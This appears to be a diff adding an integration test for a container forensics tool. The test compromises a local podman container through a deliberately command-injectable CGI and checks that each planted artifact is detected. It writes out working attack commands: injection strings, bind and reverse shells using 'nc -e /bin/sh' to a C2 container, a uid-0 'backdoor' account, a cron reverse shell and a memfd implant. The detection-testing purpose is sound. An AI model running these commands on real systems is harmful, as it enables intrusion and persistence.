@@ -1,0 +1,148 @@
+#!/usr/bin/env bash
+# A compromise of our own, end to end: a busybox httpd serving a CGI with a command injection
+# (tests/fixtures/scenario/ping.cgi) in a real podman container; the attack is driven through HTTP
+# from the host: a dropped renamed busybox run and deleted while it runs, a copy run from /dev/shm,
+# a bind shell, a reverse shell to a C2 listener in a second container on the podman network, a
+# memfd implant, a new uid-0 account, a cron file, a deleted image file, a secret in a new
+# process's environment, a deleted-but-open loot file. Captured with afterimage-capture; every
+# planted artifact must be a finding (rule id and evidence); a clean container of the same image
+# must yield no behavioural finding.
+. "$(dirname "$0")/../lib.sh"
+t_require_capture
+t_require_analyze
+A=$ANALYZE
+SC=$FIXTURES/scenario
+IMG=localhost/ai-d-scenario:1
+P_HTTP=18601 P_BIND=18602 P_CLEAN=18603
+WEB=ai-D-web-$$ C2=ai-D-c2-$$ CLEAN=ai-D-clean-$$
+
+command -v buildah >/dev/null || t_bail "buildah" "not installed"
+[[ -x /bin/busybox ]] || t_bail "busybox-static" "not installed"
+
+# ---- the image: busybox-static, its applets as symlinks, the CGI, /etc/motd to delete later
+R=$T_TMP/rootfs
+mkdir -p "$R"/{bin,etc,tmp,www/cgi-bin,var/spool,root,dev/shm}
+cp /bin/busybox "$R/bin/busybox"
+for a in $(/bin/busybox --list); do [[ $a == busybox ]] || ln -sf busybox "$R/bin/$a"; done
+cp "$SC/ping.cgi" "$R/www/cgi-bin/ping"
+echo 'it works' >"$R/www/index.html"
+printf 'root:x:0:0:root:/root:/bin/sh\nwww:x:33:33:www:/www:/bin/false\n' >"$R/etc/passwd"
+printf 'root:x:0:\nwww:x:33:\n' >"$R/etc/group"
+echo 'welcome' >"$R/etc/motd"
+chmod 1777 "$R/tmp"
+if ! podman image exists "$IMG"; then
+	ctr=$(buildah from scratch) || t_bail "buildah from scratch"
+	buildah copy -q "$ctr" "$R" / >/dev/null || t_bail "buildah copy"
+	buildah config --cmd '/bin/httpd -f -p 8080 -h /www' "$ctr" || t_bail "buildah config"
+	buildah commit -q "$ctr" "$IMG" >/dev/null || t_bail "buildah commit"
+	buildah rm "$ctr" >/dev/null
+fi
+t_ok "podman save the scenario image" podman save -q --format oci-archive -o "$T_TMP/img.tar" "$IMG"
+REF=oci-archive:$T_TMP/img.tar
+
+cc -static -O2 -o "$T_TMP/implant" "$SC/implant.c" || t_bail "compile the memfd implant"
+
+for c in "$WEB" "$C2" "$CLEAN"; do t_cleanup "podman rm -f -t 0 $c"; done
+podman run -d --name "$C2" "$IMG" nc -ll -p 9001 -e /bin/cat >/dev/null || t_bail "start the C2"
+podman run -d --name "$WEB" --tmpfs /scratch:rw,exec -p "127.0.0.1:$P_HTTP:8080" -p "127.0.0.1:$P_BIND:4444" "$IMG" >/dev/null ||
+	t_bail "start the web container"
+podman run -d --name "$CLEAN" -p "127.0.0.1:$P_CLEAN:8080" "$IMG" >/dev/null || t_bail "start the clean container"
+C2IP=$(podman inspect -f '{{.NetworkSettings.IPAddress}}' "$C2")
+t_match "the C2 has an address on the podman network" '^[0-9.]+$' "$C2IP"
+
+# inject CMD: run CMD through the CGI (url-encoded by curl), detached from the request
+inject() {
+	curl -sS -m 10 -G "http://127.0.0.1:$P_HTTP/cgi-bin/ping" --data-urlencode "host=x; $1" >/dev/null
+}
+for _ in $(seq 50); do curl -sf -m 2 "http://127.0.0.1:$P_HTTP/" >/dev/null && break; sleep 0.2; done
+t_match "the CGI answers" "checking 127.0.0.1" "$(curl -sS -m 10 "http://127.0.0.1:$P_HTTP/cgi-bin/ping?host=127.0.0.1")"
+curl -sS -m 10 "http://127.0.0.1:$P_CLEAN/cgi-bin/ping?host=127.0.0.1" >/dev/null
+
+podman cp "$T_TMP/implant" "$WEB:/tmp/implant" || t_bail "podman cp the implant"
+D='</dev/null >/dev/null 2>&1 &'
+inject "cp /bin/busybox /tmp/kworker; ln -s /tmp/kworker /tmp/sleep; setsid /tmp/sleep 100001 $D"
+# (podman mounts /dev/shm noexec: the tmpfs volume is where a dropper can run from)
+inject "cp /bin/busybox /scratch/.x; ln -s /scratch/.x /scratch/sleep; setsid /scratch/sleep 100002 $D"
+inject "setsid nc -ll -p 4444 -e /bin/sh $D"
+inject "setsid nc $C2IP 9001 -e /bin/sh $D"
+inject "setsid /tmp/implant $D"
+inject "echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd"
+inject "mkdir -p /var/spool/cron/crontabs; echo '* * * * * nc $C2IP 9001 -e /bin/sh' > /var/spool/cron/crontabs/root"
+inject "rm /etc/motd"
+inject "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY setsid sleep 100003 $D"
+inject "cp /etc/passwd /tmp/loot.txt; setsid sh -c 'exec 3</tmp/loot.txt; rm /tmp/loot.txt; exec sleep 100004' $D"
+sleep 1
+inject "rm /tmp/kworker /tmp/sleep /tmp/implant"
+# a client on the bind shell, held open through the capture
+exec 7<>"/dev/tcp/127.0.0.1/$P_BIND" || t_bail "connect to the bind shell"
+echo 'echo bound' >&7
+t_cleanup "exec 7>&-"
+sleep 1
+
+K=$T_TMP/key
+t_ok "keygen" "$CAPTURE" keygen -o "$K"
+mkdir -p "$T_TMP/out"
+WPID=$(podman inspect -f '{{.State.Pid}}' "$WEB")
+CPID=$(podman inspect -f '{{.State.Pid}}' "$CLEAN")
+t_ok "capture the compromised container" "$CAPTURE" snapshot --pid "$WPID" --key "$K.key" -o "$T_TMP/out" --name web
+t_ok "capture the clean container" "$CAPTURE" snapshot --pid "$CPID" --key "$K.key" -o "$T_TMP/out" --name clean
+B=$T_TMP/out/web.tar
+BC=$T_TMP/out/clean.tar
+
+fj=$("$A" findings "$B" --image "$REF" --json)
+rules=$(jq -r '.findings[] | "\(.rule) \(.kind) \(.path) \(.remote) \(.message)"' <<<"$fj")
+t_diag "$rules"
+has() { t_match "$1" "$2" "$rules"; }
+has "dropped renamed busybox: deleted exe" "AI-EXE-002 exe-deleted /tmp/kworker"
+has "dropped renamed busybox: identical to the image's busybox" "AI-EXE-009 dropped-binary-identity /tmp/kworker .*identical to /bin/busybox, layer 1"
+has "dropped renamed busybox: argv[0] differs from the exe" "AI-PROC-002 argv0-mismatch /tmp/kworker .*calls itself \"sleep\""
+has "a binary run from a tmpfs volume" "AI-EXE-008 exe-from-volatile /scratch/.x"
+has "reverse shell: the shell's stdio is a socket to the C2" "AI-NET-002 shell-socket-stdio .* $C2IP:9001"
+has "bind shell: a shell's stdio is a socket on :4444" "AI-NET-002 shell-socket-stdio .*:4444"
+has "the C2 connection is a finding" "AI-NET-00[14] connection-[a-z-]+ null $C2IP:9001"
+has "the bind shell's listener, not started by the image" "AI-NET-005 listener-unexpected .*4444"
+has "the web server spawned a shell" "AI-PROC-001 service-spawned-shell .*descends from pid [0-9]+ \(httpd\)"
+has "memfd implant" "AI-EXE-001 exe-memfd /memfd:kthread"
+has "new uid-0 account" "AI-PER-001 uid0-account-added /etc/passwd .*\"backdoor\" has uid 0"
+has "passwd changed" "AI-PER-002 account-db-changed /etc/passwd"
+has "cron file" "AI-PER-003 cron-at-changed /var/spool/cron/crontabs/root"
+has "deleted image file" "AI-PER-010 image-file-deleted /etc/motd .*layer 1"
+has "secret in a new process's environment" "AI-SEC-001 secret-in-environment null null .*AWS_SECRET_ACCESS_KEY .*value masked"
+has "deleted-but-open loot file" "AI-FILE-001 deleted-open-file /tmp/loot.txt"
+t_empty "the secret's value is in no view" "$(grep -o 'wJalrXUtnFEMI' <<<"$fj$("$A" findings "$B")")"
+t_match "--show-secrets shows it" "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY" "$("$A" findings "$B" --show-secrets)"
+t_eq "the first finding is high" high "$(jq -r '.findings[0].severity' <<<"$fj")"
+t_empty "most severe first: no high after a medium" \
+	"$(jq -r '[.findings[].severity] | map(if .=="high" then 0 elif .=="medium" then 1 else 2 end) | . as $s | [range(1; length) | select($s[.] < $s[.-1])] | .[]' <<<"$fj")"
+t_eq "the deleted exe has its full sha256 and member" "64 true" \
+	"$(jq -r '[.findings[] | select(.kind=="exe-deleted" and (.path|startswith("/tmp/kworker")))][0] | "\(.sha256|length) \(.member != null)"' <<<"$fj")"
+t_eq "its sha256 is the image busybox's" "$(sha256sum /bin/busybox | cut -c1-64)" \
+	"$(jq -r '[.findings[] | select(.kind=="exe-deleted" and (.path|startswith("/tmp/kworker")))][0].sha256' <<<"$fj")"
+t_match "text shows full 64-hex hashes" "sha256 [0-9a-f]{64}" "$("$A" findings "$B" --image "$REF")"
+t_eq "every finding names the container" "0" "$(jq '[.findings[] | select(.container == null)] | length' <<<"$fj")"
+ipid=$(jq -r '[.findings[] | select(.kind=="exe-memfd")][0].pid' <<<"$fj")
+t_eq "--pid keeps that process's findings only" "$ipid" \
+	"$("$A" findings "$B" --json --pid "$ipid" | jq -r '[.findings[].pid] | unique | join(",")')"
+t_eq "--min-severity high drops the rest" "high" \
+	"$("$A" findings "$B" --json --min-severity high | jq -r '[.findings[].severity] | unique | join(",")')"
+t_match "--path GLOB selects by path" "cron-at-changed" \
+	"$("$A" findings "$B" --json --path '/var/spool/*' | jq -r '[.findings[].kind] | unique | join(",")')"
+cid=$(podman inspect -f '{{.Id}}' "$WEB")
+t_eq "--container (id prefix) matches the bundle's container" "$(jq '.findings | length' <<<"$fj")" \
+	"$("$A" findings "$B" --image "$REF" --json --container "${cid:0:12}" | jq '.findings | length')"
+t_eq "--container of another container matches nothing" 0 \
+	"$("$A" findings "$B" --json --container 0123456789ab | jq '.findings | length')"
+
+# ---- the clean container: no behavioural finding
+cj=$("$A" findings "$BC" --image "$REF" --json)
+t_empty "clean container: no behavioural finding" \
+	"$(jq -r '.findings[] | select(.class=="behaviour") | "\(.rule) \(.kind) \(.path) \(.message)"' <<<"$cj")"
+t_match "clean container: its configuration is still reported" "root-writable-rootfs" \
+	"$(jq -r '.findings[].kind' <<<"$cj")"
+
+# ---- the checkpoint archive: filters work there too
+CK=$ROOT/tests/data/podman-checkpoint/checkpoint.tar
+t_eq "checkpoint: --path selects the whiteout" "/hello.sh" \
+	"$("$A" findings "$CK" --image "oci-archive:$ROOT/tests/data/podman-checkpoint/image-oci-archive.tar" --json --path '/hello*' | jq -r '[.findings[].path] | unique | join(",")')"
+t_eq "checkpoint: --container by its name" "$("$A" findings "$CK" --json | jq '.findings | length')" \
+	"$("$A" findings "$CK" --json --container "$(jq -r '.findings[0].container' <<<"$("$A" findings "$CK" --json)")" | jq '.findings | length')"
